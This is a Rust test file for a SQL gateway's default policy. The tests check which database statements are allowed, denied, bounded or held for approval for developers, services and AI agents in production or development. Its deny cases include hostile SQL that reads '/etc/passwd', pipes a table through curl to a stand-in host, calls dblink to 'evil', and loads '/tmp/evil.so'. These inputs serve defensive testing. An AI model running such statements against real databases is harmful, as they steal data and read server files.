//! The built-in default policy, table-driven: SQL, identity, environment → outcome and rule.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use weir_analyze::Analyzer;
use weir_policy::{Identity, IdentityKind, Policy, TargetInfo, Verdict};

fn who(name: &str, kind: IdentityKind, groups: &[&str]) -> Identity {
    Identity {
        name: name.into(),
        kind,
        groups: groups.iter().map(|g| g.to_string()).collect(),
        attributes: Default::default(),
        source: "static",
        on_behalf_of: None,
    }
}

fn outcome(
    policy: &Policy,
    analyzer: &Analyzer,
    id: &Identity,
    env: &str,
    sql: &str,
) -> Vec<String> {
    let target = TargetInfo {
        name: "shop".into(),
        environment: env.into(),
        sensitivity: [("public.customers".to_string(), "pii".to_string())].into(),
        untrusted: Default::default(),
    };
    let session = policy.session(id, &target).unwrap();
    let analysis = analyzer.analyze(sql.as_bytes()).unwrap();
    let scope = weir_analyze::Scope::default();
    let scope = scope.after(&analysis).unwrap_or(scope);
    policy
        .decide(&session, &scope.resolve_analysis(&analysis))
        .iter()
        .map(|v| match v {
            Verdict::Allow => "allow".to_string(),
            Verdict::Deny { rule, .. } => format!("deny {rule}"),
            Verdict::RequireApproval { rule, .. } => format!("approve {rule}"),
            Verdict::AllowBounded { rows, rule } => format!("bound {rows} {rule}"),
        })
        .collect()
}

#[test]
fn default_policy_cases() {
    let policy = Policy::load(true, "weir-admins", &[], &[]).unwrap();
    let analyzer = Analyzer::new();
    let dev = who("alice", IdentityKind::Human, &["developers"]);
    let agent = who("claude", IdentityKind::Agent, &["agents"]);
    let admin = who("root", IdentityKind::Human, &["weir-admins"]);
    let cases: &[(&Identity, &str, &str, &str)] = &[
        // Ordinary work flows everywhere.
        (
            &dev,
            "production",
            "SELECT * FROM customers WHERE id = 1",
            "allow",
        ),
        (
            &dev,
            "production",
            "UPDATE orders SET status = 'paid' WHERE id = 7",
            // Every write in production runs under the bulk-write bound (the gateway skips
            // the bracket when the catalog proves a key equality).
            "bound 1000 weir.bulk-write-needs-approval-in-production",
        ),
        (&dev, "production", "BEGIN", "allow"),
        (&dev, "production", "SET search_path = public", "allow"),
        // No DROP / TRUNCATE in production; fine in development.
        (
            &dev,
            "production",
            "DROP TABLE orders",
            "deny weir.no-drop-in-production",
        ),
        (
            &dev,
            "production",
            "TRUNCATE orders",
            "deny weir.no-drop-in-production",
        ),
        (&dev, "development", "DROP TABLE orders", "allow"),
        // UPDATE / DELETE need an effective WHERE in production, however it hides.
        (
            &dev,
            "production",
            "DELETE FROM orders",
            "deny weir.where-required-in-production",
        ),
        (
            &dev,
            "production",
            "DELETE FROM orders WHERE true",
            "deny weir.where-required-in-production",
        ),
        (
            &dev,
            "production",
            "UPDATE orders SET total_cents = 0 WHERE 1 = 1",
            "deny weir.where-required-in-production",
        ),
        (
            &dev,
            "production",
            "DELETE FROM orders WHERE id = id",
            "deny weir.where-required-in-production",
        ),
        (
            &dev,
            "production",
            "WITH x AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM x",
            "deny weir.where-required-in-production",
        ),
        (
            &dev,
            "production",
            "EXPLAIN ANALYZE DELETE FROM orders",
            "deny weir.where-required-in-production",
        ),
        (
            &dev,
            "production",
            "PREPARE p AS DELETE FROM orders",
            "deny weir.where-required-in-production",
        ),
        (&dev, "development", "DELETE FROM orders", "allow"),
        // DDL in production needs approval.
        (
            &dev,
            "production",
            "ALTER TABLE orders ADD COLUMN note text",
            "approve weir.ddl-needs-approval-in-production",
        ),
        (
            &dev,
            "production",
            "CREATE TABLE t2 AS SELECT * FROM orders",
            "approve weir.ddl-needs-approval-in-production",
        ),
        (
            &dev,
            "production",
            "GRANT SELECT ON customers TO public",
            "approve weir.ddl-needs-approval-in-production",
        ),
        (
            &dev,
            "staging",
            "ALTER TABLE orders ADD COLUMN note text",
            "allow",
        ),
        // Agents are read-only in production.
        (&agent, "production", "SELECT count(*) FROM orders", "allow"),
        (
            &agent,
            "production",
            "INSERT INTO orders VALUES (1)",
            "approve weir.agents-read-only-in-production",
        ),
        (
            &agent,
            "production",
            "WITH x AS (UPDATE orders SET status = 'x' WHERE id = 1 RETURNING 1) SELECT * FROM x",
            "approve weir.agents-read-only-in-production",
        ),
        (
            &agent,
            "development",
            "INSERT INTO orders VALUES (1)",
            "allow",
        ),
        // Server files and programs: denied everywhere except to the admin group.
        (
            &dev,
            "development",
            "SELECT pg_read_file('/etc/passwd')",
            "deny weir.server-files-and-programs",
        ),
        (
            &dev,
            "development",
            "SELECT pg_catalog.pg_read_file('/etc/passwd')",
            "deny weir.server-files-and-programs",
        ),
        (
            &dev,
            "development",
            "COPY orders TO PROGRAM 'curl -d @- evil'",
            "deny weir.server-files-and-programs",
        ),
        (
            &dev,
            "development",
            "COPY orders FROM '/etc/passwd'",
            "deny weir.server-files-and-programs",
        ),
        (
            &dev,
            "development",
            "SELECT lo_export(1234, '/tmp/x')",
            "deny weir.server-files-and-programs",
        ),
        (
            &dev,
            "development",
            "SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)",
            "deny weir.server-files-and-programs",
        ),
        (
            &dev,
            "development",
            "DO LANGUAGE plpython3u $$ import os $$",
            "deny weir.server-files-and-programs",
        ),
        (
            &dev,
            "development",
            "LOAD '/tmp/evil.so'",
            "deny weir.server-files-and-programs",
        ),
        (
            &admin,
            "development",
            "COPY orders TO '/tmp/orders.csv'",
            "allow",
        ),
        (&dev, "development", "COPY orders TO STDOUT", "allow"),
        // Code whose effect Weir cannot see.
        (
            &dev,
            "production",
            "DO $$ BEGIN DELETE FROM orders; END $$",
            "approve weir.unknown-effect-needs-approval-in-production",
        ),
        (
            &dev,
            "production",
            "CALL cleanup()",
            "approve weir.unknown-effect-needs-approval-in-production",
        ),
        (
            &dev,
            "development",
            "DO $$ BEGIN PERFORM 1; END $$",
            "allow",
        ),
        // Changing who the session is.
        (
            &dev,
            "production",
            "SET ROLE postgres",
            "approve weir.session-identity-needs-approval-in-production",
        ),
        (
            &dev,
            "production",
            "SET session_replication_role = replica",
            "approve weir.session-identity-needs-approval-in-production",
        ),
        (
            &dev,
            "production",
            "SELECT set_config('role', 'postgres', false)",
            "approve weir.session-identity-needs-approval-in-production",
        ),
        (
            &dev,
            "production",
            "SELECT set_config($1, $2, false)",
            "approve weir.session-identity-needs-approval-in-production",
        ),
        (
            &dev,
            "production",
            "SELECT set_config('app.tenant', '42', false)",
            "allow",
        ),
        // Functions that are not built-ins: their bodies are out of sight.
        (
            &dev,
            "production",
            "SELECT app.close_account(7)",
            "approve weir.unknown-effect-needs-approval-in-production",
        ),
        (&dev, "development", "SELECT app.close_account(7)", "allow"),
        (
            &dev,
            "production",
            "SELECT lower(email), count(*) FROM customers GROUP BY 1",
            "allow",
        ),
        (
            &dev,
            "production",
            "SELECT query_to_xml('delete from orders returning id', true, false, '')",
            "approve weir.unknown-effect-needs-approval-in-production",
        ),
        // Built-ins that change state are writes: agents need approval for them.
        (
            &agent,
            "production",
            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
            "approve weir.agents-read-only-in-production",
        ),
        (
            &agent,
            "production",
            "SELECT nextval('orders_id_seq')",
            "approve weir.agents-read-only-in-production",
        ),
    ];
    let mut failures = Vec::new();
    for (id, env, sql, want) in cases {
        let got = outcome(&policy, &analyzer, id, env, sql);
        if got != vec![want.to_string()] {
            failures.push(format!(
                "{} in {env}: {sql}\n   want {want}\n   got  {got:?}",
                id.name
            ));
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

#[test]
fn every_statement_of_a_multi_statement_string_is_decided() {
    let policy = Policy::load(true, "weir-admins", &[], &[]).unwrap();
    let analyzer = Analyzer::new();
    let dev = who("alice", IdentityKind::Human, &[]);
    let got = outcome(
        &policy,
        &analyzer,
        &dev,
        "production",
        "SELECT 1; DROP TABLE orders; SELECT 2",
    );
    assert_eq!(
        got,
        vec!["allow", "deny weir.no-drop-in-production", "allow"]
    );
    // EXECUTE is decided as what the session prepared (here, in the same string).
    let got = outcome(
        &policy,
        &analyzer,
        &dev,
        "production",
        "PREPARE ok AS DELETE FROM orders WHERE id = $1; EXECUTE ok(1); PREPARE wipe AS DELETE FROM orders; EXECUTE wipe",
    );
    assert_eq!(
        got,
        vec![
            "allow",
            // EXECUTE runs under the bound; PREPARE changes no rows.
            "bound 1000 weir.bulk-write-needs-approval-in-production",
            "deny weir.where-required-in-production",
            "deny weir.where-required-in-production"
        ]
    );
}

#[test]
fn an_invalid_policy_names_file_and_line() {
    let dir = std::env::temp_dir().join(format!("weir-policy-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let bad = dir.join("bad.cedar");
    std::fs::write(
        &bad,
        "// ok\n\npermit(principal, action, resource)\nwhen { context.no_such_fact };\n",
    )
    .unwrap();
    let err = Policy::load(true, "a", &[], std::slice::from_ref(&bad))
        .err()
        .unwrap()
        .to_string();
    assert!(err.contains("bad.cedar:4"), "{err}");
    std::fs::write(&bad, "permit(principal, action, resource)\nwhen { ;\n").unwrap();
    let err = Policy::load(true, "a", &[], std::slice::from_ref(&bad))
        .err()
        .unwrap()
        .to_string();
    assert!(err.contains("bad.cedar:2"), "{err}");
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn operator_rules_combine_deny_over_approval_over_bound() {
    let dir = std::env::temp_dir().join(format!("weir-policy-b-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let f = dir.join("ops.cedar");
    std::fs::write(
        &f,
        r#"@id("ops.bound-updates") @bound("1000")
permit(principal, action == Weir::Action::"update", resource);
@id("ops.no-pii-for-agents") @reason("agents never read PII")
forbid(principal, action, resource) when { principal.kind == "agent" && context.sensitivity.contains("pii") };
"#,
    )
    .unwrap();
    let policy = Policy::load(true, "weir-admins", &[], &[f]).unwrap();
    let analyzer = Analyzer::new();
    let dev = who("alice", IdentityKind::Human, &[]);
    let agent = who("claude", IdentityKind::Agent, &[]);
    assert_eq!(
        outcome(
            &policy,
            &analyzer,
            &dev,
            "production",
            "UPDATE orders SET status = 'x' WHERE id > 5"
        ),
        vec!["bound 1000 ops.bound-updates"]
    );
    assert_eq!(
        outcome(
            &policy,
            &analyzer,
            &agent,
            "development",
            "SELECT email FROM customers"
        ),
        vec!["deny ops.no-pii-for-agents"]
    );
    assert_eq!(
        outcome(
            &policy,
            &analyzer,
            &agent,
            "production",
            "UPDATE customers SET email = '' WHERE id = 1"
        ),
        vec!["deny ops.no-pii-for-agents"]
    );
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn clear_text_needs_a_permit_that_names_unmask() {
    let target = |env: &str| TargetInfo {
        name: "shop".into(),
        environment: env.into(),
        sensitivity: [("public.customers".to_string(), "pii".to_string())].into(),
        untrusted: Default::default(),
    };
    let alice = who("alice", IdentityKind::Human, &["dba"]);
    let bob = who("bob", IdentityKind::Human, &["developers"]);
    let agent = who("claude", IdentityKind::Agent, &["dba"]);
    let may = |policy: &Policy, id: &Identity, env: &str, column: &str, label: &str| {
        let s = policy.session(id, &target(env)).unwrap();
        policy.may_unmask(&s, column, label)
    };

    // The defaults: nobody, anywhere — the baseline permit does not count.
    let defaults = Policy::load(true, "weir-admins", &[], &[]).unwrap();
    for env in ["production", "development"] {
        assert!(!may(
            &defaults,
            &alice,
            env,
            "public.customers.email",
            "email"
        ));
    }
    assert!(!may(
        &Policy::allow_all(),
        &alice,
        "development",
        "public.customers.email",
        "email"
    ));

    let dir = std::env::temp_dir().join(format!("weir-policy-u-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let f = dir.join("unmask.cedar");
    std::fs::write(
        &f,
        r#"// A blanket permit grants no clear text.
permit(principal, action, resource);
@id("ops.dba-sees-pii-outside-production")
permit(principal in Weir::Group::"dba", action == Weir::Action::"unmask", resource)
when { resource.environment != "production" };
@id("ops.cards-never")
forbid(principal, action == Weir::Action::"unmask", resource)
when { context.column_tags.contains("card") };
"#,
    )
    .unwrap();
    let policy = Policy::load(true, "weir-admins", &[], &[f]).unwrap();
    assert!(may(
        &policy,
        &alice,
        "development",
        "public.customers.email",
        "email"
    ));
    assert!(!may(
        &policy,
        &alice,
        "production",
        "public.customers.email",
        "email"
    ));
    assert!(!may(
        &policy,
        &alice,
        "development",
        "public.customers.card_number",
        "card"
    ));
    assert!(!may(
        &policy,
        &bob,
        "development",
        "public.customers.email",
        "email"
    ));
    // The table's tag reaches the decision too.
    assert!(!may(
        &policy,
        &agent,
        "production",
        "public.customers.email",
        "email"
    ));
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn operational_hazards_need_approval_in_production() {
    let policy = Policy::load(true, "weir-admins", &[], &[]).unwrap();
    let analyzer = Analyzer::new();
    let dev = who("alice", IdentityKind::Human, &["developers"]);
    let ci = who("ci", IdentityKind::Service, &["ci"]);
    let admin = who("root", IdentityKind::Human, &["weir-admins"]);
    const RULE: &str = "approve weir.operational-hazard-needs-approval-in-production";
    let held = [
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
        "SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE datname = 'shop'",
        "SELECT pg_catalog.pg_terminate_backend(12345)",
        "LOCK TABLE orders IN ACCESS EXCLUSIVE MODE",
        "LOCK TABLE orders",
        "LOCK TABLE orders IN EXCLUSIVE MODE",
        "LOCK TABLE orders IN SHARE ROW EXCLUSIVE MODE",
        "VACUUM FULL orders",
        "VACUUM (FULL, ANALYZE) orders",
        "CLUSTER orders USING orders_pkey",
        "REINDEX TABLE orders",
        "REINDEX INDEX orders_pkey",
        "REFRESH MATERIALIZED VIEW order_totals",
        "PREPARE TRANSACTION 'x'",
        "COMMIT PREPARED 'x'",
        "ROLLBACK PREPARED 'x'",
        "SELECT lo_unlink(oid) FROM pg_largeobject_metadata",
        "SELECT setval('orders_id_seq', 1)",
        "SELECT pg_reload_conf()",
        "SELECT pg_rotate_logfile()",
        "SELECT pg_promote()",
        "CHECKPOINT",
        "WITH x AS (SELECT pg_terminate_backend(pid) FROM pg_stat_activity) SELECT count(*) FROM x",
    ];
    let allowed = [
        "VACUUM orders",
        "VACUUM (ANALYZE) orders",
        "ANALYZE orders",
        "REINDEX TABLE CONCURRENTLY orders",
        "REFRESH MATERIALIZED VIEW CONCURRENTLY order_totals",
        "SELECT * FROM orders FOR UPDATE",
        "LOCK TABLE orders IN ACCESS SHARE MODE",
        "LOCK TABLE orders IN ROW EXCLUSIVE MODE",
        "LOCK TABLE orders IN SHARE UPDATE EXCLUSIVE MODE",
        "SELECT nextval('orders_id_seq')",
        "SELECT pg_terminate_backend(pg_backend_pid())",
        "SELECT lo_unlink(16400)",
        "BEGIN",
        "SELECT abalance FROM pgbench_accounts WHERE aid = 1",
        "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES (1, 1, 1, 1, CURRENT_TIMESTAMP)",
    ];
    let mut failures = Vec::new();
    for sql in held {
        for id in [&dev, &ci] {
            let got = outcome(&policy, &analyzer, id, "production", sql);
            if got != vec![RULE.to_string()] {
                failures.push(format!("{} production: {sql}: {got:?}", id.name));
            }
        }
        for (id, env) in [(&dev, "development"), (&admin, "production")] {
            let got = outcome(&policy, &analyzer, id, env, sql);
            if got.iter().any(|v| v.contains("operational-hazard")) {
                failures.push(format!("{} {env}: {sql}: {got:?}", id.name));
            }
        }
    }
    for sql in allowed {
        let got = outcome(&policy, &analyzer, &dev, "production", sql);
        if got != vec!["allow".to_string()] {
            failures.push(format!("alice production: {sql}: want allow, got {got:?}"));
        }
    }
    // CREATE INDEX CONCURRENTLY is DDL: approval as before, not a hazard.
    assert_eq!(
        outcome(
            &policy,
            &analyzer,
            &dev,
            "production",
            "CREATE INDEX CONCURRENTLY ON orders (status)"
        ),
        vec!["approve weir.ddl-needs-approval-in-production".to_string()]
    );
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

#[test]
fn bulk_writes_are_bounded_in_production_and_agents_within_their_limit() {
    let analyzer = Analyzer::new();
    let dev = who("alice", IdentityKind::Human, &["developers"]);
    let ci = who("ci", IdentityKind::Service, &["ci"]);
    let agent = who("claude", IdentityKind::Agent, &["agents"]);
    const BULK: &str = "weir.bulk-write-needs-approval-in-production";
    let policy = Policy::load(true, "weir-admins", &[], &[]).unwrap();
    for id in [&dev, &ci] {
        for sql in [
            "DELETE FROM orders WHERE id > 0",
            "UPDATE orders SET status = 'x' WHERE status <> 'x'",
            "DELETE FROM orders WHERE id IN (SELECT id FROM orders)",
            "MERGE INTO orders o USING returns r ON o.id = r.order_id WHEN MATCHED THEN DELETE",
        ] {
            assert_eq!(
                outcome(&policy, &analyzer, id, "production", sql),
                vec![format!("bound 1000 {BULK}")],
                "{sql}"
            );
            assert_eq!(
                outcome(&policy, &analyzer, id, "development", sql),
                vec!["allow"],
                "{sql}"
            );
        }
        // INSERT ... VALUES is not a bulk write.
        assert_eq!(
            outcome(
                &policy,
                &analyzer,
                id,
                "production",
                "INSERT INTO orders (status) VALUES ('new')"
            ),
            vec!["allow"]
        );
    }
    // Agents stay read-only unless agent_write_rows allows a bound.
    assert_eq!(
        outcome(
            &policy,
            &analyzer,
            &agent,
            "production",
            "UPDATE orders SET status = 'x' WHERE id = 1"
        ),
        vec!["approve weir.agents-read-only-in-production"]
    );
    let limits = weir_policy::Limits {
        bulk_write_rows: 500,
        agent_write_rows: 20,
        ..Default::default()
    };
    let policy = Policy::load_with_limits(true, "weir-admins", &[], limits, &[]).unwrap();
    assert_eq!(
        outcome(
            &policy,
            &analyzer,
            &dev,
            "production",
            "DELETE FROM orders WHERE id > 0"
        ),
        vec![format!("bound 500 {BULK}")]
    );
    for sql in [
        "UPDATE orders SET status = 'x' WHERE id > 1",
        "INSERT INTO orders (status) SELECT status FROM orders",
    ] {
        assert_eq!(
            outcome(&policy, &analyzer, &agent, "production", sql),
            vec!["bound 20 weir.agent-writes-bounded-in-production"],
            "{sql}"
        );
    }
    // Still not DDL, DROP, functions or state-changing built-ins.
    assert_eq!(
        outcome(
            &policy,
            &analyzer,
            &agent,
            "production",
            "SELECT nextval('orders_id_seq')"
        ),
        vec!["approve weir.agents-read-only-in-production"]
    );
    assert_eq!(
        outcome(
            &policy,
            &analyzer,
            &agent,
            "production",
            "UPDATE orders SET status = f(status) WHERE id = 1"
        ),
        vec!["approve weir.unknown-effect-needs-approval-in-production"]
    );
    // 0 turns the bulk rule off.
    let limits = weir_policy::Limits {
        bulk_write_rows: 0,
        agent_write_rows: 0,
        ..Default::default()
    };
    let policy = Policy::load_with_limits(true, "weir-admins", &[], limits, &[]).unwrap();
    assert_eq!(
        outcome(
            &policy,
            &analyzer,
            &dev,
            "production",
            "DELETE FROM orders WHERE id > 0"
        ),
        vec!["allow"]
    );
}

#[test]
fn a_sensitive_copy_needs_approval_in_production_unless_its_columns_may_be_seen() {
    let policy = Policy::load(true, "weir-admins", &[], &[]).unwrap();
    let analyzer = Analyzer::new();
    let dev = who("alice", IdentityKind::Human, &["developers"]);
    let analysis = analyzer
        .analyze(b"INSERT INTO products (name) SELECT ssn FROM customers")
        .unwrap();
    let scope = weir_analyze::Scope::default();
    let verdict = |env: &str, labels: &[&str], may_unmask: bool| {
        let target = TargetInfo {
            name: "shop".into(),
            environment: env.into(),
            sensitivity: Default::default(),
            untrusted: Default::default(),
        };
        let session = policy.session(&dev, &target).unwrap();
        let f = scope.resolve_facts(&analysis.statements[0]);
        let copied = weir_policy::Copied {
            labels: labels.iter().map(|l| l.to_string()).collect(),
            may_unmask,
        };
        match policy.decide_copying(&session, &f, &scope.touched(&f), &copied, &[]) {
            Verdict::Allow => "allow".to_string(),
            Verdict::Deny { rule, .. } => format!("deny {rule}"),
            Verdict::RequireApproval { rule, .. } => format!("approve {rule}"),
            Verdict::AllowBounded { rows, rule } => format!("bound {rows} {rule}"),
        }
    };
    const RULE: &str = "approve weir.sensitive-copy-needs-approval-in-production";
    assert_eq!(verdict("production", &["ssn"], false), RULE);
    assert_eq!(verdict("production", &["ssn", "email"], false), RULE);
    // Someone who may see the columns in clear copies them without asking.
    assert_eq!(verdict("production", &["ssn"], true), "allow");
    // Nothing sensitive copied, or not production: as without the rule.
    assert_eq!(verdict("production", &[], false), "allow");
    assert_eq!(verdict("development", &["ssn"], false), "allow");
    // Without the session's lineage check, the rule never fires.
    assert_eq!(
        outcome(
            &policy,
            &analyzer,
            &dev,
            "production",
            "INSERT INTO products (name) SELECT ssn FROM customers"
        ),
        ["allow"]
    );
}

#[test]
fn operators_may_what_their_group_lets_them_and_a_blanket_permit_grants_nothing() {
    use weir_policy::Operation::*;
    let dir = std::env::temp_dir().join(format!("weir-ops-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    // An operator's blanket permit is about statements, not about operating Weir.
    let blanket = dir.join("blanket.cedar");
    std::fs::write(&blanket, "permit (principal, action, resource);\n").unwrap();
    let policy = Policy::load(true, "weir-admins", &["dba".into()], &[blanket]).unwrap();
    let gateway = TargetInfo::gateway();
    let may = |who: &Identity, op| {
        let s = policy.session(who, &gateway).unwrap();
        policy.may_operate(&s, op)
    };
    let admin = who("ada", IdentityKind::Human, &["weir-admins"]);
    let approver = who("bob", IdentityKind::Human, &["dba"]);
    let auditor = who("aud", IdentityKind::Human, &["weir-auditors"]);
    let dev = who("dev", IdentityKind::Human, &["developers"]);
    let service = who("svc", IdentityKind::Service, &["weir-admins"]);
    for op in weir_policy::Operation::ALL {
        assert!(may(&admin, op), "admin {op:?}");
        assert!(!may(&dev, op), "developer {op:?}");
        assert!(!may(&service, op), "a service in the admin group {op:?}");
    }
    for op in [
        ViewApprovals,
        ViewSessions,
        SimulatePolicy,
        ViewGrants,
        RevokeGrant,
    ] {
        assert!(may(&approver, op), "approver {op:?}");
    }
    assert!(!may(&approver, EndSession));
    assert!(!may(&approver, ReadAudit));
    for op in [
        ViewApprovals,
        ViewSessions,
        ReadAudit,
        SimulatePolicy,
        ViewGrants,
    ] {
        assert!(may(&auditor, op), "auditor {op:?}");
    }
    assert!(!may(&auditor, EndSession));
    assert!(!may(&auditor, RevokeGrant));
    // Without a policy engine nobody operates anything.
    let none = Policy::allow_all();
    let s = none.session(&admin, &gateway).unwrap();
    assert!(!none.may_operate(&s, ReadAudit));
}
